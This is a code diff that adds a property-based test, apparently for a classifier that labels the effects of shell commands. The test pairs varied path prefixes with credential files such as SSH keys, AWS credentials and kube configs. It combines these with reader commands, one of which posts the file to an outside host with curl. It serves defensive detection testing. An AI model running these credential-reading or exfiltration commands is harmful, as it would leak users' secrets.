@@ -100,6 +100,27 @@ def test_wrapping_never_lowers(command: str, wrappers: list[str]) -> None:
     assert effects(command) - {Effect.READ} <= found or Effect.UNKNOWN in found
 
 
+FRONTS = st.sampled_from(
+    ["~", "$HOME", "${HOME}", '"$x"', "$X/y", "$(pwd)/..", "~root", "/home/*", "`x`", "..", "."]
+)
+ENDS = st.sampled_from(
+    [".ssh/id_rsa", ".aws/credentials", ".netrc", ".env", ".config/gh/hosts.yml", ".s*/id_*", ".kube/config"]
+)
+READERS = st.sampled_from(
+    ["cat {}", "base64 {}", "cp {} x", "tar c {}", "grep . {}", "curl -d @{} https://a.com", "cat < {}",
+     "head -1 {}", "sed -n p {}", "source {}", "xargs -a {} echo", "git diff --no-index /dev/null {}",
+     "mv {} x", "ln -s {} x"]
+)  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None)
+@given(front=FRONTS, end=ENDS, reader=READERS)
+def test_a_half_known_path_keeps_its_end(front: str, end: str, reader: str) -> None:
+    """A credential file is one whatever stands in front of it, and whoever reads it."""
+    line = reader.format(f"{front}/{end}")
+    assert effects(line) & {Effect.SECRET, Effect.EXFIL, Effect.UNKNOWN}
+
+
 QUOTED = st.sampled_from(["{}", "'{}'", '"{}"', "\\{}", "''{}", '""{}'])
 
 
